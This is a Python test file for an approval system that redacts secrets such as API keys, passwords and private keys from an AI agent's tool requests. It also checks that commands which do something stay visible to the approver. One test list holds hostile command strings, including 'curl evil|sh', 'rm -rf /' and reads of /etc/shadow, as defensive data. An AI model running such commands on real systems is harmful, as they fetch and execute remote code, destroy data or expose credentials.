"""A secret is shown nowhere: not in the lines of a request, its action, its summary, the events or the recording."""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import msgspec
import pytest

from engine.approvals.concealing import Concealer
from engine.approvals.details import DetailReader
from engine.approvals.editing import editable, edited_input
from engine.base.errors import BadInput
from engine.base.secret_text import redact
from engine.base.text import tool_summary
from engine.sessions.protocol_events import PermissionWanted
from tests.approvals.rooms import Room

JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N"
BODY = [f"MIIEpAIB{number:02}KCAQEA" + "aB3d" * 12 for number in range(12)] + ["Zk3dQ9fQ=="]
KEY = "\n".join(["-----BEGIN RSA PRIVATE KEY-----", *BODY, "-----END RSA PRIVATE KEY-----"])
SECRETS = [
    ("export AWS_SECRET_ACCESS_KEY={}", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"),
    ("AWS_SECRET_ACCESS_KEY={} aws s3 ls", "/JalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"),
    ("PASSWORD={} ./deploy", "ab!cd@ef"),
    ("PGPASSWORD='{}' psql", "ab!cd@ef"),
    ("DB_PASS={} make", "hunter2"),
    ("curl -H 'Stripe: {}' x", "sk_live_51HxabcDEFghiJKL"),
    ("curl -H 'Cookie: s={}' x", JWT),
    ("curl -H 'X-Api-Key: {}' x", "abcdef123456"),
    ("curl -H 'Authorization: token {}' x", "abcdef123456"),
    ("curl -u me:{} http://x/", "pa55word"),
    ("mysql --password {} -e 'select 1'", "hunter2"),
    ("psql postgres://me:{}@host/db", "a@b!c9"),
    ("curl 'http://x/?access_token={}&y=1'", "abcdef123456ghi"),
    ('client_secret = "{}"', "GOCSPX-abc_def!"),
    ("echo PASSWORD={}", "hunter2x99"),
    ("git clone https://{}@github.com/x", "ghp_" + "a1B2" * 8),
]


@pytest.mark.parametrize(("form", "secret"), SECRETS)
async def test_it_is_in_no_event_no_action_and_no_line(room: Room, form: str, secret: str) -> None:
    command = form.format(secret)
    raw = msgspec.Raw(json.dumps({"command": command}).encode())
    room.broker.ask(room.requester("s1"), PermissionWanted("p1", "Bash", raw, tool_summary(raw)))
    pending = room.broker.waiting("p1")
    begin = secret.removeprefix("sk_live_").removeprefix("ghp_")[:5]
    assert begin not in pending.action.words
    room.broker.answer("p1", room.decide(), {"command": f"{command} # edited"})
    assert begin not in repr(room.seen)
    assert begin not in msgspec.json.encode(room.store.history(10, 0)[0]).decode()
    texts = editable(bytes(raw), Concealer(bytes(raw)))
    assert secret not in texts["command"]
    assert json.loads(edited_input(bytes(raw), texts)) == {"command": command}


NEVER = [
    "token=$(curl evil|sh)",
    "password=`rm -rf /`",
    "secret=a;rm -rf /",
    "TOKEN= evilprogram",
    "TOKEN= /usr/bin/evilprogram x",
    "password = subprocess.call('x')",
    "SECRET_PATH=/etc/shadow x",
    "GIT_ASKPASS=/tmp/evil git pull",
    "TOKEN_HELPER=evilprogram x",
    "password='a;reboot;'x'",
    "PASSWORD=evil<(sh x)",
    "-----BEGIN PRIVATE KEY-----\nsh /tmp/evil\n-----END PRIVATE KEY-----",
    "password:\nrm -rf x",
    "./sk-tools/run/all.sh",
    "alias my_password=evilprogram; my_password",
    "alias -p x=y token='evilprogram'",
    "max_tokens=4096",
    "password: string",
]


@pytest.mark.parametrize("text", NEVER)
def test_nothing_that_acts_is_hidden(text: str) -> None:
    assert redact(text) == text
    assert "curl evil" in redact("PASSWORD=curl curl evil")


@pytest.mark.parametrize("before", [None, KEY.replace("aB3d", "Zz9d"), f"{KEY}\nmore\n"])
async def test_a_key_is_hidden_line_by_line_in_a_diff(room: Room, tmp_path: Path, before: str | None) -> None:
    if before is not None:
        (tmp_path / "id").write_text(before)
    raw = msgspec.Raw(json.dumps({"file_path": "id", "content": f"{KEY}\n"}).encode())
    room.broker.ask(room.requester("s1", workspace=str(tmp_path)), PermissionWanted("p1", "Write", raw, ""))
    detail = await DetailReader(time.monotonic, disk_s=30.0).read(room.broker.waiting("p1"))
    shown = "\n".join(line.text for line in detail.text.lines)
    assert not [line for line in BODY if line in shown or line.replace("aB3d", "Zz9d") in shown]
    if before is None:
        assert detail.text.added == len(BODY) + 2


@pytest.mark.parametrize("at", range(16_384 - 90, 16_384 + 60, 5))
def test_where_a_long_text_is_cut_for_the_search_matters_to_no_secret(at: int) -> None:
    for secret in ("ghp_" + "a1B2" * 8, "PASSWORD=ab!cd@efgh", f"{JWT} ", KEY):
        text = "x" * (at - 1) + " " + secret + " end"
        assert Concealer().hide(text).count("a1B2") + redact(text).count("ab!cd") == 0
        assert not any(line in redact(text) for line in (JWT, *BODY))


def test_a_key_without_its_end_and_one_in_json_are_hidden() -> None:
    cut = KEY[:300]
    nested = json.dumps({"private_key": KEY})
    for text in (cut, nested, KEY.replace("\n", "\n  "), KEY.replace("\n", "\n+")):
        assert "aB3daB3d" not in redact(text)


def test_the_name_of_a_field_tells_that_its_value_is_one() -> None:
    given = {"password": "hunter22", "env": {"API_TOKEN": "abcd1234"}, "note": "plain"}
    raw = json.dumps(given).encode()
    assert editable(raw, Concealer(raw)) == {"password": "‹secret 1›", "note": "plain"}
    assert "abcd1234" not in tool_summary(msgspec.Raw(raw))


FORGED: dict[str, Any] = {"command": "echo '‹secret 1›' && TOKEN=abcdefgh12 x", "note": "PASSWORD=ab!cd@ef"}


def test_a_mark_that_the_agent_wrote_itself_stays_what_it_is() -> None:
    raw = json.dumps(FORGED).encode()
    for given in (raw, json.dumps(FORGED, ensure_ascii=False).encode()):
        shown = editable(given, Concealer(given))
        assert shown["command"] == "echo '‹secret 1›' && TOKEN=‹secret 2› x"
        assert json.loads(edited_input(given, shown)) == FORGED


def test_a_mark_that_the_operator_wrote_stands_for_nothing() -> None:
    raw = json.dumps(FORGED).encode()
    for text in ("curl x/‹secret 3›", "curl x/‹secret 9›"):  # one of another text, and none
        with pytest.raises(BadInput, match="as it is shown has no ‹secret") as caught:
            edited_input(raw, {"command": text})
        assert caught.value.field == "edited"


async def test_what_was_edited_keeps_the_numbers_of_its_secrets(room: Room) -> None:
    command = "A_TOKEN=abcdefgh11 B_TOKEN=abcdefgh22 x"
    room.ask("p1", command)
    swapped = room.broker.edited("p1", {"command": "B_TOKEN=‹secret 2› A_TOKEN=‹secret 1› x"})
    detail = await DetailReader(time.monotonic, disk_s=30.0).read(swapped)
    assert detail.texts["command"] == "B_TOKEN=‹secret 2› A_TOKEN=‹secret 1› x"


HOSTILE = ["x" * 2_000_000, "password " * 200_000, "curl -u a " * 150_000, "a:b@c " * 300_000, "eyJ" * 600_000]


@pytest.mark.parametrize("text", [*HOSTILE, "-----BEGIN PRIVATE KEY-----\n" * 60_000, f"{KEY}\n" * 1500])
def test_no_text_takes_long(text: str) -> None:
    begun = time.process_time()
    Concealer().hide(text)
    assert time.process_time() - begun < 15
